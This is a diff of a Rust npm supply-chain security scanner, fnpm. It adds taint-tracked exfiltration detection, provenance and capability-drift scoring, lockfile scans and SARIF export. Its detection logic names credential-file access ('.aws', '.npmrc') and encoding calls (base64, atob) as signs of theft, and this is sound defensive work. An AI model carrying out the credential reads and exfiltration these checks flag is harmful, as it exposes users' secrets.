     fn detect_behavioral_chains(&self, audit: &mut PackageAudit) {
         let issues = &audit.source_code_issues;
-        let scripts = [
-            audit.preinstall.as_deref(),
-            audit.install.as_deref(),
-            audit.postinstall.as_deref(),
-        ];
 
         // Combine all code for analysis
-        let all_code: String = scripts
+        let all_code: String = audit
+            .lifecycle_hooks()
             .iter()
-            .filter_map(|s| *s)
+            .map(|(_, script)| *script)
             .collect::<Vec<_>>()
             .join(" ");
 
@@ -723,14 +1216,41 @@ impl SecurityScanner {
             || all_code.contains(".aws")
             || all_code.contains(".npmrc");
 
-        let has_encoding = issues
-            .iter()
-            .any(|i| i.issue_type.contains("base64") || i.issue_type.contains("obfuscated"))
-            || all_code.contains("base64")
+        let has_encoding = issues.iter().any(|i| {
+            i.issue_type.contains("base64")
+                || i.issue_type.contains("obfuscated")
+                || i.issue_type.starts_with("encoded_")
+        }) || all_code.contains("base64")
             || all_code.contains("atob")
             || all_code.contains("btoa");
 
-        if has_network && has_sensitive_access {
+        // Taint tracking proved sensitive data reaches the network: report the
+        // actual path instead of inferring it from co-occurring patterns
+        let exfiltration = issues
+            .iter()
+            .find(|i| i.issue_type == "tainted_network_request");
+
+        if let Some(flow) = exfiltration {
+            let evidence = flow
+                .data_flow
+                .iter()
+                .map(|step| {
+                    format!(
+                        "{}:{} {} ({})",
+                        flow.file_path, step.line_number, step.description, step.code
+                    )
+                })
+                .collect();
+
+            audit.behavioral_chains.push(BehavioralChain {
+                chain_type: AttackChainType::DataExfiltration,
+                description: "SUPPLY CHAIN ATTACK: Data exfiltration confirmed by data flow - sensitive data is sent over the network".to_string(),
+                evidence,
+                severity: IssueSeverity::Critical,
+                risk_score: 100,
+                entry_point: None,
+            });
+        } else if has_network && has_sensitive_access {
             let mut evidence = vec![];
             if has_encoding {
                 evidence.push("Uses encoding/obfuscation".to_string());
@@ -750,6 +1270,7 @@ impl SecurityScanner {
                 evidence,
                 severity,
                 risk_score: if has_encoding { 100 } else { 75 },
+                entry_point: None,
             });
         }
 
@@ -774,6 +1295,7 @@ impl SecurityScanner {
                 ],
                 severity: IssueSeverity::Critical,
                 risk_score: 95,
+                entry_point: None,
             });
         }
 
@@ -802,6 +1324,7 @@ impl SecurityScanner {
                 ],
                 severity: IssueSeverity::Critical,
                 risk_score: 100,
+                entry_point: None,
             });
         }
 
@@ -822,6 +1345,7 @@ impl SecurityScanner {
                 ],
                 severity: IssueSeverity::Critical,
                 risk_score: 90,
+                entry_point: None,
             });
         }
 
@@ -847,6 +1371,7 @@ impl SecurityScanner {
                 ],
                 severity: IssueSeverity::Critical,
                 risk_score: 85,
+                entry_point: None,
             });
         }
 
@@ -857,6 +1382,8 @@ impl SecurityScanner {
                 i.issue_type.contains("obfuscated")
                     || i.issue_type.contains("base64")
                     || i.issue_type.contains("hex escape")
+                    || i.issue_type == "encoded_payload"
+                    || i.description.contains(REVEALED_MARKER)
             })
             .count();
 
@@ -875,6 +1402,7 @@ impl SecurityScanner {
                 ],
                 severity: IssueSeverity::Critical,
                 risk_score: 80,
+                entry_point: None,
             });
         }
     }
@@ -908,6 +1436,7 @@ impl SecurityScanner {
             } else {
                 Some(snippet.to_string())
             },
+            data_flow: Vec::new(),
         });
     }
 
@@ -960,8 +1489,8 @@ impl SecurityScanner {
         }
     }
 
-    fn calculate_risk_level(&self, audit: &PackageAudit) -> RiskLevel {
-        // NEW: Calculate risk score based on behavioral chains and individual issues
+    /// Risk score of everything found in `audit`
+    fn risk_score(audit: &PackageAudit) -> u32 {
         let mut risk_score = 0u32;
 
         // Behavioral chains have the highest weight (supply chain attack indicators)
@@ -989,14 +1518,29 @@ impl SecurityScanner {
         // Add points for suspicious patterns in scripts
         risk_score += (audit.suspicious_patterns.len() as u32) * 8;
 
-        // Scripts presence adds base risk
-        if audit.has_scripts {
-            let script_count = [&audit.preinstall, &audit.install, &audit.postinstall]
-                .iter()
-                .filter(|s| s.is_some())
-                .count();
-            risk_score += (script_count as u32) * 3;
-        }
+        // A patch release gaining network/exec access looks like a hijack
+        risk_score += audit
+            .capability_drift
+            .as_ref()
+            .map_or(0, CapabilityDrift::risk_score);
+
+        // Who published the version and how (registry metadata)
+        risk_score += registry_metadata::risk_score(&audit.metadata_signals);
+
+        // A signature or attestation that doesn't match the tarball
+        risk_score += audit
+            .provenance
+            .as_ref()
+            .map_or(0, ProvenanceReport::risk_score);
+
+        // Every script npm may run adds base risk
+        risk_score += (audit.script_count() as u32) * 3;
+
+        risk_score
+    }
+
+    fn calculate_risk_level(&self, audit: &PackageAudit) -> RiskLevel {
+        let risk_score = Self::risk_score(audit);
 
         // Determine risk level based on total score
         // Behavioral chains push score very high (80-100 points each)
@@ -1015,44 +1559,137 @@ impl SecurityScanner {
     }
 
     fn calculate_and_assign_risk(&self, audit: &mut PackageAudit) {
-        // Calculate risk score
-        let mut risk_score = 0u32;
+        audit.risk_score = Self::risk_score(audit);
+        audit.risk_level = self.calculate_risk_level(audit);
+    }
 
-        for chain in &audit.behavioral_chains {
-            risk_score += chain.risk_score;
+    /// Declared lifecycle hooks in run order, then npm's implicit install
+    fn display_lifecycle_scripts(audit: &PackageAudit, indent: &str) {
+        for (hook, script) in audit.lifecycle_hooks() {
+            println!(
+                "{}{} {}",
+                indent,
+                format!("{}:", hook).red().bold(),
+                script.bright_white()
+            );
         }
-
-        let critical_source_issues = audit
-            .source_code_issues
-            .iter()
-            .filter(|i| i.severity == IssueSeverity::Critical)
-            .count();
-
-        let warning_source_issues = audit
-            .source_code_issues
-            .iter()
-            .filter(|i| i.severity == IssueSeverity::Warning)
-            .count();
-
-        risk_score += (critical_source_issues as u32) * 15;
-        risk_score += (warning_source_issues as u32) * 5;
-        risk_score += (audit.suspicious_patterns.len() as u32) * 8;
-
-        if audit.has_scripts {
-            let script_count = [&audit.preinstall, &audit.install, &audit.postinstall]
-                .iter()
-                .filter(|s| s.is_some())
-                .count();
-            risk_score += (script_count as u32) * 3;
+        if let Some(command) = &audit.implicit_install {
+            println!(
+                "{}{} {} {}",
+                indent,
+                "install (implicit):".red().bold(),
+                command.bright_white(),
+                "(binding.gyp)".bright_black()
+            );
         }
-
-        audit.risk_score = risk_score;
-        audit.risk_level = self.calculate_risk_level(audit);
     }
 
-    pub fn display_audit_report(&self, audit: &PackageAudit) {
-        self.display_audit_report_with_options(audit, true) // true por defecto
-    }
+    /// Capability summary and, when updating, what changed since the
+    /// installed version
+    fn display_capabilities(audit: &PackageAudit) {
+        if !audit.capabilities.is_empty() {
+            println!(
+                "{} {}",
+                "🔧 Capabilities:".bright_cyan().bold(),
+                capabilities::join(&audit.capabilities).bright_white()
+            );
+        }
+
+        let Some(drift) = &audit.capability_drift else {
+            return;
+        };
+        let release = if drift.is_patch_release() {
+            " (patch release)"
+        } else {
+            ""
+        };
+        let title = format!(
+            "Capability drift {} → {}{}",
+            drift.from_version, drift.to_version, release
+        );
+        if drift.is_suspicious() {
+            println!("\n{} {}", "🚨".red(), title.red().bold());
+        } else {
+            println!("\n{} {}", "🔀".yellow(), title.yellow().bold());
+        }
+        for capability in &drift.gained {
+            println!(
+                "  {} {}",
+                "+".red().bold(),
+                capability.label().bright_white()
+            );
+        }
+        for capability in &drift.lost {
+            println!(
+                "  {} {}",
+                "-".green().bold(),
+                capability.label().bright_black()
+            );
+        }
+        if drift.is_suspicious() {
+            println!(
+                "  {}",
+                "A patch release gained network or exec access - a classic sign of a hijacked maintainer account"
+                    .yellow()
+            );
+        }
+    }
+
+    /// Registry signature and provenance verification results
+    fn display_provenance(audit: &PackageAudit) {
+        let Some(report) = &audit.provenance else {
+            return;
+        };
+        let status = |status: VerificationStatus| match status {
+            VerificationStatus::Verified => status.label().green().bold(),
+            VerificationStatus::SelfSigned | VerificationStatus::Unverified => {
+                status.label().yellow()
+            }
+            VerificationStatus::Mismatched => status.label().red().bold(),
+        };
+        println!(
+            "{} signature {} {} provenance {}",
+            "🔏 Provenance:".bright_cyan().bold(),
+            status(report.signature),
+            "│".bright_black(),
+            status(report.attestation)
+        );
+        if let Some(repository) = &report.source_repository {
+            println!(
+                "   {} {}",
+                "built from".bright_black(),
+                repository.bright_white()
+            );
+        }
+        if report.status() == VerificationStatus::Mismatched {
+            for note in &report.notes {
+                println!("   {}", note.red());
+            }
+        }
+    }
+
+    /// Registry metadata signals, riskiest first
+    fn display_metadata_signals(audit: &PackageAudit) {
+        if audit.metadata_signals.is_empty() {
+            return;
+        }
+        let mut signals: Vec<&MetadataSignal> = audit.metadata_signals.iter().collect();
+        signals.sort_by_key(|signal| std::cmp::Reverse(signal.risk_score()));
+        println!("\n{}", "🏷️  Registry Metadata:".bright_cyan().bold());
+        for signal in signals {
+            let kind = format!("[{}]", signal.kind);
+            let kind = if signal.risk_score() >= 25 {
+                kind.red().bold()
+            } else {
+                kind.yellow()
+            };
+            println!("  {} {}", kind, signal.description);
+        }
+    }
+
+    pub fn display_audit_report(&self, audit: &PackageAudit) {
+        self.display_audit_report_with_options(audit, true) // true por defecto
+    }
 
     pub fn display_audit_report_with_options(&self, audit: &PackageAudit, full_report: bool) {
         println!(
@@ -1075,6 +1712,9 @@ impl SecurityScanner {
             "{}",
             "═══════════════════════════════════════════".bright_blue()
         );
+        Self::display_capabilities(audit);
+        Self::display_provenance(audit);
+        Self::display_metadata_signals(audit);
 
         // PRIORITY: Show behavioral attack chains first (supply chain attacks)
         if !audit.behavioral_chains.is_empty() {
@@ -1106,6 +1746,9 @@ impl SecurityScanner {
                     chain.risk_score.to_string().red().bold()
                 );
                 println!("  {}", chain.description.yellow());
+                if let Some(entry_point) = &chain.entry_point {
+                    println!("  Reachable from: {}", entry_point.bright_white());
+                }
                 println!("  Evidence:");
                 for evidence in &chain.evidence {
                     println!("    {} {}", "→".bright_black(), evidence.bright_white());
@@ -1119,19 +1762,7 @@ impl SecurityScanner {
         } else {
             println!("\n{}", "📜 Install Scripts:".yellow().bold());
 
-            if let Some(script) = &audit.preinstall {
-                println!("  {} {}", "preinstall:".red().bold(), script.bright_white());
-            }
-            if let Some(script) = &audit.install {
-                println!("  {} {}", "install:".red().bold(), script.bright_white());
-            }
-            if let Some(script) = &audit.postinstall {
-                println!(
-                    "  {} {}",
-                    "postinstall:".red().bold(),
-                    script.bright_white()
-                );
-            }
+            Self::display_lifecycle_scripts(audit, "  ");
 
             if !audit.suspicious_patterns.is_empty() {
                 println!("\n{}", "⚠️  Suspicious Patterns Detected:".red().bold());
@@ -1177,6 +1808,15 @@ impl SecurityScanner {
                     if let Some(snippet) = &issue.code_snippet {
                         println!("    Code: {}", snippet.bright_black());
                     }
+                    for step in &issue.data_flow {
+                        println!(
+                            "      {} line {}: {} {}",
+                            "↳".bright_black(),
+                            step.line_number,
+                            step.description,
+                            step.code.bright_black()
+                        );
+                    }
                 }
 
                 if !full_report && critical_issues.len() > 5 {
@@ -1276,29 +1916,114 @@ impl SecurityScanner {
             .map_err(|e| anyhow!(e))
     }
 
+    /// Remove baselined and suppressed findings from `audit` and re-assess
+    /// its risk from what is left. Returns how many findings were hidden.
+    pub fn apply_known_findings(&self, audit: &mut PackageAudit, known: &KnownFindings) -> usize {
+        let hidden = known.filter(audit);
+        if hidden > 0 {
+            // Chains come from scripts and the module graph, not findings
+            self.calculate_and_assign_risk(audit);
+        }
+        hidden
+    }
+
+    /// Apply `known` to every audit of a scan and update its risk counters.
+    pub fn apply_known_findings_to_result(
+        &self,
+        result: &mut TransitiveScanResult,
+        known: &KnownFindings,
+    ) {
+        if known.is_empty() {
+            return;
+        }
+        for audit in result.package_audits.values_mut() {
+            result.suppressed_findings += self.apply_known_findings(audit, known);
+        }
+        Self::recount_risk(result);
+    }
+
+    /// Add the sandbox findings logged for the build of this audit's version
+    pub fn apply_build_findings(&self, audit: &mut PackageAudit, findings: &BuildFindings) {
+        let Some(version) = audit.version.clone() else {
+            return;
+        };
+        let (name, _) = split_package_spec(&audit.package_name);
+        let mut added = false;
+        for finding in findings.get(&name, &version) {
+            let present = audit.source_code_issues.iter().any(|issue| {
+                issue.issue_type == finding.issue_type && issue.code_snippet == finding.code_snippet
+            });
+            if !present {
+                audit.source_code_issues.push(finding.clone());
+                added = true;
+            }
+        }
+        if added {
+            self.calculate_and_assign_risk(audit);
+        }
+    }
+
+    /// Add what the sandbox saw each audited version's build script do
+    /// (see `build_sandbox::log_violations`) and update the risk counters.
+    pub fn apply_build_findings_to_result(
+        &self,
+        result: &mut TransitiveScanResult,
+        findings: &BuildFindings,
+    ) {
+        if findings.is_empty() {
+            return;
+        }
+        for audit in result.package_audits.values_mut() {
+            self.apply_build_findings(audit, findings);
+        }
+        Self::recount_risk(result);
+    }
+
+    fn recount_risk(result: &mut TransitiveScanResult) {
+        let levels: Vec<RiskLevel> = result
+            .package_audits
+            .values()
+            .map(|a| a.risk_level)
+            .collect();
+        result.high_risk_count = levels.iter().filter(|l| **l >= RiskLevel::High).count();
+        result.medium_risk_count = levels.iter().filter(|l| **l == RiskLevel::Medium).count();
+    }
+
     /// Scan dependencies that are already installed in the current project
     pub fn scan_installed_dependencies(
         &self,
         include_dev_dependencies: bool,
-        max_depth: usize,
+        max_depth: Option<usize>,
+    ) -> Result<TransitiveScanResult> {
+        self.scan_installed_dependencies_in(Path::new("."), include_dev_dependencies, max_depth)
+    }
+
+    /// `scan_installed_dependencies` for the project in `project_dir`, e.g.
+    /// the quarantine staging tree
+    pub fn scan_installed_dependencies_in(
+        &self,
+        project_dir: &Path,
+        include_dev_dependencies: bool,
+        max_depth: Option<usize>,
     ) -> Result<TransitiveScanResult> {
         use indicatif::{ProgressBar, ProgressStyle};
 
-        let package_json_path = Path::new("package.json");
+        let package_json_path = project_dir.join("package.json");
         if !package_json_path.exists() {
             return Err(anyhow!(
                 "No package.json found in the current directory to audit"
             ));
         }
 
-        let node_modules_root = Path::new("node_modules");
+        let node_modules_root = project_dir.join("node_modules");
+        let node_modules_root = node_modules_root.as_path();
         if !node_modules_root.exists() {
             return Err(anyhow!(
                 "node_modules directory not found. Run 'fnpm install' before auditing installed packages"
             ));
         }
 
-        let package_json: Value = serde_json::from_str(&fs::read_to_string(package_json_path)?)?;
+        let package_json: Value = serde_json::from_str(&fs::read_to_string(&package_json_path)?)?;
         let mut root_dependencies: Vec<String> = package_json
             .get("dependencies")
             .and_then(|d| d.as_object())
@@ -1318,11 +2043,13 @@ impl SecurityScanner {
             return Err(anyhow!("No dependencies found to audit"));
         }
 
-        println!("{}", "🔍 Auditing installed dependencies...".cyan().bold());
-        println!(
+        eprintln!("{}", "🔍 Auditing installed dependencies...".cyan().bold());
+        eprintln!(
             "   {} {}",
             "Max depth:".bright_black(),
-            max_depth.to_string().bright_white()
+            max_depth
+                .map_or_else(|| "unlimited".to_string(), |d| d.to_string())
+                .bright_white()
         );
 
         let pb = ProgressBar::new_spinner();
@@ -1333,94 +2060,98 @@ impl SecurityScanner {
                 .tick_chars("⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏"),
         );
 
-        let mut result = TransitiveScanResult {
-            total_packages: 0,
-            scanned_packages: 0,
-            high_risk_count: 0,
-            medium_risk_count: 0,
-            packages_with_scripts: 0,
-            max_depth_reached: 0,
-            package_audits: HashMap::new(),
-        };
-
-        let mut visited = HashSet::new();
-        let mut to_scan: Vec<(String, usize, PathBuf)> = root_dependencies
+        let roots = root_dependencies
             .into_iter()
-            .map(|dep| (dep, 0, node_modules_root.to_path_buf()))
+            .map(|dep| (dep, node_modules_root.to_path_buf()))
             .collect();
 
-        while let Some((current_package, depth, parent_dir)) = to_scan.pop() {
-            if visited.contains(&current_package) {
-                continue;
-            }
-            visited.insert(current_package.clone());
-
-            result.total_packages += 1;
-            result.max_depth_reached = result.max_depth_reached.max(depth);
+        let result = self.scan_levels(
+            roots,
+            max_depth,
+            &pb,
+            "Scanning installed",
+            |package, parent_dir: &PathBuf| {
+                let Some(package_path) = self.resolve_installed_package_path(
+                    node_modules_root,
+                    Some(parent_dir),
+                    package,
+                ) else {
+                    return (
+                        Err(anyhow!("not found in node_modules (skipping)")),
+                        Vec::new(),
+                    );
+                };
 
-            let indent = "  ".repeat(depth);
-            let arrow = if depth == 0 { "📦" } else { "↳" };
-            pb.set_message(format!(
-                "{}{} Scanning installed: {}",
-                indent,
-                arrow,
-                current_package.bright_white()
-            ));
-            pb.tick();
-
-            let package_path = match self.resolve_installed_package_path(
-                node_modules_root,
-                Some(&parent_dir),
-                &current_package,
-            ) {
-                Some(path) => path,
-                None => {
-                    pb.println(format!(
-                        "   {} {}",
-                        "⚠".yellow(),
-                        format!(
-                            "Package {} not found in node_modules (skipping)",
-                            current_package
-                        )
-                        .bright_black()
-                    ));
-                    continue;
+                match self.audit_installed_package(package, &package_path) {
+                    Ok(audit) => {
+                        let children = audit
+                            .dependencies
+                            .iter()
+                            .map(|dep| (dep.clone(), package_path.clone()))
+                            .collect();
+                        (Ok(audit), children)
+                    }
+                    Err(e) => (Err(e), Vec::new()),
                 }
-            };
+            },
+        );
 
-            match self.audit_installed_package(&current_package, &package_path) {
-                Ok(audit) => {
-                    result.scanned_packages += 1;
+        pb.finish_and_clear();
 
-                    if audit.has_scripts {
-                        result.packages_with_scripts += 1;
-                    }
+        Ok(result)
+    }
 
-                    match audit.risk_level {
-                        RiskLevel::High | RiskLevel::Critical => result.high_risk_count += 1,
-                        RiskLevel::Medium => result.medium_risk_count += 1,
-                        _ => {}
-                    }
+    /// Audit every package pinned in a lockfile at its exact resolved version.
+    /// Tarballs are downloaded into the audit temp dir, so nothing needs to be
+    /// installed. `max_depth` of `None` walks the whole graph.
+    pub fn scan_lockfile(
+        &self,
+        graph: &LockfileGraph,
+        include_dev_dependencies: bool,
+        max_depth: Option<usize>,
+    ) -> Result<TransitiveScanResult> {
+        use indicatif::{ProgressBar, ProgressStyle};
 
-                    if depth < max_depth {
-                        for dep in &audit.dependencies {
-                            to_scan.push((dep.clone(), depth + 1, package_path.clone()));
-                        }
-                    }
+        let locked = |(name, dep): (&String, &LockedDependency)| {
+            let id = lockfile::dependency_id(name, dep);
+            graph.packages.contains_key(&id).then_some((id, ()))
+        };
+        let mut roots: Vec<(String, ())> = graph
+            .root
+            .dependencies
+            .iter()
+            .chain(graph.root.optional_dependencies.iter())
+            .filter_map(locked)
+            .collect();
+        if include_dev_dependencies {
+            roots.extend(graph.root.dev_dependencies.iter().filter_map(locked));
+        }
 
-                    result.package_audits.insert(current_package.clone(), audit);
-                }
-                Err(e) => {
-                    pb.println(format!(
-                        "   {} Failed to scan {}: {}",
-                        "⚠".yellow(),
-                        current_package.bright_black(),
-                        e.to_string().bright_black()
-                    ));
-                }
-            }
+        if roots.is_empty() {
+            return Err(anyhow!("No dependencies found in the lockfile to audit"));
         }
 
+        eprintln!("{}", "🔍 Auditing lockfile dependencies...".cyan().bold());
+        eprintln!(
+            "   {} {}",
+            "Packages pinned:".bright_black(),
+            graph.packages.len().to_string().bright_white()
+        );
+
+        let pb = ProgressBar::new_spinner();
+        pb.set_style(
+            ProgressStyle::default_spinner()
+                .template("{spinner:.cyan} {msg}")
+                .unwrap()
+                .tick_chars("⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏"),
+        );
+
+        let result = self.scan_levels(roots, max_depth, &pb, "Fetching", |id, _| {
+            let package = &graph.packages[id];
+            let children = package.all_dependencies().filter_map(locked).collect();
+            (self.audit_locked_package(package), children)
+        });
+
         pb.finish_and_clear();
 
         Ok(result)
@@ -1441,19 +2172,6 @@ impl SecurityScanner {
             max_depth.to_string().bright_white()
         );
 
-        let mut result = TransitiveScanResult {
-            total_packages: 0,
-            scanned_packages: 0,
-            high_risk_count: 0,
-            medium_risk_count: 0,
-            packages_with_scripts: 0,
-            max_depth_reached: 0,
-            package_audits: HashMap::new(),
-        };
-
-        let mut visited = HashSet::new();
-        let mut to_scan = vec![(package.to_string(), 0)];
-
         // Create progress bar
         let pb = ProgressBar::new_spinner();
         pb.set_style(
@@ -1463,93 +2181,144 @@ impl SecurityScanner {
                 .tick_chars("⠋⠙⠹⠸⠼⠴⠦⠧⠇⠏"),
         );
 
-        while let Some((current_package, depth)) = to_scan.pop() {
-            if depth > max_depth {
-                result.max_depth_reached = result.max_depth_reached.max(depth - 1);
-                continue;
-            }
+        let roots = vec![(package.to_string(), ())];
+        let result =
+            self.scan_levels(
+                roots,
+                Some(max_depth),
+                &pb,
+                "Scanning",
+                |package, _| match self.audit_package_quiet(package) {
+                    Ok(audit) => {
+                        let children = audit
+                            .dependencies
+                            .iter()
+                            .map(|dep| (dep.clone(), ()))
+                            .collect();
+                        (Ok(audit), children)
+                    }
+                    Err(e) => (Err(e), Vec::new()),
+                },
+            );
 
-            result.max_depth_reached = result.max_depth_reached.max(depth);
+        pb.finish_and_clear();
 
-            // Skip if already visited
-            if visited.contains(&current_package) {
-                continue;
+        Ok(result)
+    }
+
+    /// Breadth-first traversal shared by the transitive, installed and
+    /// lockfile scans. Every depth level is audited on the worker pool, and
+    /// the next level is built from the results in key order, so the outcome
+    /// does not depend on which worker finished first.
+    fn scan_levels<T, F>(
+        &self,
+        roots: Vec<(String, T)>,
+        max_depth: Option<usize>,
+        pb: &ProgressBar,
+        label: &str,
+        audit: F,
+    ) -> TransitiveScanResult
+    where
+        T: Send + Sync,
+        F: Fn(&str, &T) -> ScanStep<T> + Sync,
+    {
+        let mut result = TransitiveScanResult {
+            total_packages: 0,
+            scanned_packages: 0,
+            high_risk_count: 0,
+            medium_risk_count: 0,
+            packages_with_scripts: 0,
+            max_depth_reached: 0,
+            suppressed_findings: 0,
+            advisories: Vec::new(),
+            dependency_graph: DependencyGraph::default(),
+            package_audits: BTreeMap::new(),
+        };
+
+        for (key, _) in &roots {
+            result.dependency_graph.add_root(key);
+        }
+
+        let mut visited = HashSet::new();
+        let mut level = roots;
+        let mut depth = 0;
+
+        while !level.is_empty() {
+            let mut queued: BTreeMap<String, T> = BTreeMap::new();
+            for (key, item) in level {
+                if !visited.contains(&key) && !queued.contains_key(&key) {
+                    queued.insert(key, item);
+                }
             }
+            if queued.is_empty() {
+                break;
+            }
+            let tasks: Vec<(String, T)> = queued.into_iter().collect();
+            visited.extend(tasks.iter().map(|(key, _)| key.clone()));
 
-            visited.insert(current_package.clone());
-            result.total_packages += 1;
+            result.total_packages += tasks.len();
+            result.max_depth_reached = result.max_depth_reached.max(depth);
 
-            // Update progress bar
             let indent = "  ".repeat(depth);
             let arrow = if depth == 0 { "📦" } else { "↳" };
-            pb.set_message(format!(
-                "{}{} Scanning: {}",
-                indent,
-                arrow,
-                current_package.bright_white()
-            ));
-            pb.tick();
-
-            // Audit the package
-            match self.audit_package_quiet(&current_package) {
-                Ok(audit) => {
-                    result.scanned_packages += 1;
+            let steps = parallel_map(&tasks, self.concurrency, |(key, item)| {
+                pb.set_message(format!(
+                    "{}{} {}: {}",
+                    indent,
+                    arrow,
+                    label,
+                    key.bright_white()
+                ));
+                pb.tick();
+                audit(key, item)
+            });
 
-                    // Update statistics
-                    if audit.has_scripts {
-                        result.packages_with_scripts += 1;
-                    }
+            let descend = max_depth.map_or(true, |max| depth < max);
+            let mut next = Vec::new();
+            for ((key, _), (outcome, children)) in tasks.into_iter().zip(steps) {
+                for (child, _) in &children {
+                    result.dependency_graph.add_edge(&key, child);
+                }
+                match outcome {
+                    Ok(audit) => {
+                        result.scanned_packages += 1;
 
-                    match audit.risk_level {
-                        RiskLevel::High | RiskLevel::Critical => result.high_risk_count += 1,
-                        RiskLevel::Medium => result.medium_risk_count += 1,
-                        _ => {}
-                    }
+                        if audit.has_scripts {
+                            result.packages_with_scripts += 1;
+                        }
 
-                    // Queue dependencies for scanning
-                    if depth < max_depth {
-                        for dep in &audit.dependencies {
-                            to_scan.push((dep.clone(), depth + 1));
+                        match audit.risk_level {
+                            RiskLevel::High | RiskLevel::Critical => result.high_risk_count += 1,
+                            RiskLevel::Medium => result.medium_risk_count += 1,
+                            _ => {}
                         }
-                    }
 
-                    result.package_audits.insert(current_package.clone(), audit);
+                        result.package_audits.insert(key, audit);
+                    }
+                    Err(e) => {
+                        pb.println(format!(
+                            "   {} Failed to scan {}: {}",
+                            "⚠".yellow(),
+                            key.bright_black(),
+                            e.to_string().bright_black()
+                        ));
+                    }
                 }
-                Err(e) => {
-                    pb.println(format!(
-                        "   {} Failed to scan {}: {}",
-                        "⚠".yellow(),
-                        current_package.bright_black(),
-                        e.to_string().bright_black()
-                    ));
+                if descend {
+                    next.extend(children);
                 }
             }
-        }
 
-        pb.finish_and_clear();
+            level = next;
+            depth += 1;
+        }
 
-        Ok(result)
+        result
     }
 
     /// Audit a package without verbose output (for batch scanning)
     fn audit_package_quiet(&self, package: &str) -> Result<PackageAudit> {
-        // Install package in temp directory with --ignore-scripts (silently)
-        self.install_in_sandbox_quiet(package)?;
-
-        // Find and analyze the package.json
-        let package_json_path = self.find_package_json(package)?;
-
-        let mut audit = self.analyze_package_json(&package_json_path, package)?;
-
-        // Scan source code (limited for performance)
-        if let Some(package_dir) = package_json_path.parent() {
-            self.scan_source_code(package_dir, &mut audit);
-        }
-
-        // Recalculate risk level
-        self.calculate_and_assign_risk(&mut audit);
-
-        Ok(audit)
+        self.audit_from_registry(package, false)
     }
 
     /// Display transitive scan summary
@@ -1619,6 +2388,13 @@ impl SecurityScanner {
                 result.medium_risk_count.to_string().green()
             }
         );
+        if result.suppressed_findings > 0 {
+            println!(
+                "  {} {}",
+                "Known findings hidden (baseline/suppressions):".bright_white(),
+                result.suppressed_findings.to_string().bright_black()
+            );
+        }
 
         // Show high-risk packages
         if result.high_risk_count > 0 || result.medium_risk_count > 0 {
@@ -1793,6 +2569,34 @@ impl SecurityScanner {
             );
         }
 
+        if !result.advisories.is_empty() {
+            println!(
+                "\n{} {}",
+                "🐞 KNOWN VULNERABILITIES:".red().bold(),
+                result.advisories.len()
+            );
+            for advisory in &result.advisories {
+                println!(
+                    "  • {}@{} {} [{}]",
+                    advisory.package.bright_white(),
+                    advisory.version,
+                    advisory.ids().yellow(),
+                    advisory.severity.as_deref().unwrap_or("unrated")
+                );
+                if !advisory.summary.is_empty() {
+                    println!("    {}", advisory.summary.dimmed());
+                }
+                println!(
+                    "    affected {} → {}",
+                    advisory.affected.join(" || "),
+                    match &advisory.fixed_in {
+                        Some(fixed) => format!("fixed in {}", fixed).green(),
+                        None => "no fix released".red(),
+                    }
+                );
+            }
+        }
+
         println!(
             "\n{}",
             "═══════════════════════════════════════════".bright_blue()
@@ -1827,23 +2631,14 @@ impl SecurityScanner {
                 "Risk Level:".bright_white().bold(),
                 audit.risk_level.color()
             );
+            Self::display_capabilities(audit);
+            Self::display_provenance(audit);
+            Self::display_metadata_signals(audit);
 
             // Show scripts if present
             if audit.has_scripts {
                 println!("\n{}", "📜 Install Scripts:".yellow().bold());
-                if let Some(script) = &audit.preinstall {
-                    println!("  {} {}", "preinstall:".red().bold(), script.bright_white());
-                }
-                if let Some(script) = &audit.install {
-                    println!("  {} {}", "install:".red().bold(), script.bright_white());
-                }
-                if let Some(script) = &audit.postinstall {
-                    println!(
-                        "  {} {}",
-                        "postinstall:".red().bold(),
-                        script.bright_white()
-                    );
-                }
+                Self::display_lifecycle_scripts(audit, "  ");
             }
 
             // Show ALL suspicious patterns
@@ -1959,6 +2754,23 @@ impl SecurityScanner {
         Ok(())
     }
 
+    /// Export findings from `audits` as a SARIF 2.1.0 log
+    pub fn export_to_sarif<'a>(
+        &self,
+        audits: impl IntoIterator<Item = &'a PackageAudit>,
+        filename: &str,
+    ) -> Result<()> {
+        use std::fs;
+        let json = serde_json::to_string_pretty(&crate::sarif::to_sarif(audits))?;
+        fs::write(filename, json)?;
+        println!(
+            "{} SARIF report exported to: {}",
+            "✅".green(),
+            filename.bright_white()
+        );
+        Ok(())
+    }
+
     /// Export transitive scan results to Markdown file (human-friendly)
     pub fn export_transitive_to_markdown(
         &self,
@@ -2010,6 +2822,36 @@ impl SecurityScanner {
             "- Packages with install scripts: {}",
             result.packages_with_scripts
         )?;
+        if !result.advisories.is_empty() {
+            writeln!(
+                report,
+                "- Known vulnerabilities: {}",
+                result.advisories.len()
+            )?;
+        }
+
+        // Known advisories section
+        if !result.advisories.is_empty() {
+            writeln!(report, "\n## Known Vulnerabilities")?;
+            writeln!(report)?;
+            writeln!(
+                report,
+                "| Package | Advisory | Severity | Affected | Fixed in |"
+            )?;
+            writeln!(report, "|---|---|---|---|---|")?;
+            for advisory in &result.advisories {
+                writeln!(
+                    report,
+                    "| {}@{} | {} | {} | {} | {} |",
+                    advisory.package,
+                    advisory.version,
+                    advisory.ids(),
+                    advisory.severity.as_deref().unwrap_or("-"),
+                    advisory.affected.join(" \\|\\| "),
+                    advisory.fixed_in.as_deref().unwrap_or("no fix")
+                )?;
+            }
+        }
 
         // Helper to get risk label without colors
         let risk_label = |risk: &RiskLevel| match risk {
@@ -2327,7 +3169,14 @@ fn is_exotic_specifier(spec: &str) -> bool {
 }
 
 /// Print an upfront banner explaining the supply-chain protections that are active.
-pub fn print_protections_banner(min_age_minutes: u64, block_exotic: bool, allow_builds: &[String]) {
+pub fn print_protections_banner(
+    min_age_minutes: u64,
+    block_exotic: bool,
+    block_typosquats: bool,
+    require_provenance: bool,
+    block_known_vulnerable: bool,
+    allow_builds: &[String],
+) {
     eprintln!("{} supply-chain protections active:", "fnpm:".cyan().bold());
     if min_age_minutes > 0 {
         eprintln!(
@@ -2342,15 +3191,42 @@ pub fn print_protections_banner(min_age_minutes: u64, block_exotic: bool, allow_
             "block_exotic_subdeps".bright_white()
         );
     }
+    if block_typosquats {
+        eprintln!(
+            "  • {} (look-alikes of popular or internal packages rejected)",
+            "block_typosquats".bright_white()
+        );
+    }
+    if require_provenance {
+        eprintln!(
+            "  • {} (direct dependencies need a verified SLSA attestation)",
